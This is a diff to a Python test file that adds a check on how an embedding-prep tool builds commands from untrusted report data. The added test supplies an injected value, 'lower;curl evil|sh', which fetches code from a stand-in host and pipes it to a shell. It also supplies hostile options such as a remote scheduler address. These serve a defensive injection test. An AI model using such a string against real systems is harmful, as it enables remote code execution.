@@ -19,7 +19,7 @@ from embedprep.options import Options
 from embedprep.provenance import Provenance
 from embedprep.report.columns import LONGEST, shortened
 from embedprep.report.html import render
-from embedprep.report.html.command import build_command, inspect_command
+from embedprep.report.html.command import build_command, fallback_option, inspect_command
 from embedprep.report.html.pictures import nearest
 from embedprep.report.html.sample import NORMS, found, norms
 from embedprep.report.wording import percent, rows_shown
@@ -361,6 +361,13 @@ def test_the_command_is_the_build_with_its_options() -> None:
     assert (build_command(gain, "lower") or "").endswith("wiki.npy --fallback lower")
     negative = report(options={"seed": -1, "dim": 50})
     assert " --seed=-1 --dim 50 " in (build_command(negative, "") or "")
+
+
+def test_a_report_of_a_stranger_makes_no_command_that_trusts_or_runs_anything() -> None:
+    told = {"trust_pickle": True, "scheduler": "tcp://evil:1", "engine": "dask", "dim": 3}
+    said = build_command(report(options=told), "lower;curl evil|sh") or ""
+    assert said.endswith("-o wiki.npy --dim 3 --fallback 'lower;curl evil|sh'")
+    assert fallback_option("lower;curl evil|sh") == "--fallback 'lower;curl evil|sh'"
 
 
 @pytest.mark.parametrize("path", [None, "bad\x1bname.npy"])
